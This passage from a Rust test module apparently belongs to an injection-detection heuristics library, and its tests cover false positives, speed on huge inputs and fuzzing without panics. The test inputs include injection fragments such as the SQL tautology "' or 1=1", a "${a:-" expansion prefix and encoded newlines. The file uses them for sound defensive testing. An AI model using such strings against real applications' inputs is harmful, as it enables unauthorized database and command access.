                let text = Normalizer::default().normalize(value).text;
                loud.push(format!("{value:?}: {:?}", matched_patterns(&text)));
            }
            checked += 1;
        }
        assert!(loud.is_empty(), "{}", loud.join("\n"));
        assert!(checked >= 30, "{checked}");
    }

    #[test]
    fn one_megabyte_texts_finish_quickly() {
        let inputs = [
            "' or 1=1 ".repeat(120_000),
            "on".repeat(500_000),
            "=".repeat(1_000_000),
            "%0a".repeat(350_000),
            "0x".repeat(500_000),
            "${a:-".repeat(200_000),
        ];
        let start = std::time::Instant::now();
        let mut out = [0f32; N_HEURISTICS];
        for input in &inputs {
            heuristics_into(input, input, &mut out);
            let _ = matched_patterns(input);
        }
        assert!(start.elapsed().as_secs_f64() < 3.0, "{:?}", start.elapsed());
    }

    #[test]
    fn random_text_never_panics() {
        use rand::{Rng, SeedableRng};
        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(11);
        const ALPHABET: &[u8] = b"${}:-=' \"or1and|&;`()<>/\\%0adxlonjn*[]";
        let mut out = [0f32; N_HEURISTICS];
        for _ in 0..20_000 {
            let len = rng.gen_range(0..48);
            let s: String = (0..len)
                .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char)
                .collect();
            heuristics_into(&s, &s, &mut out);
            assert!(out.iter().all(|v| v.is_finite() && *v >= 0.0), "{s:?}");
            let _ = matched_patterns(&s);
        }
    }
}
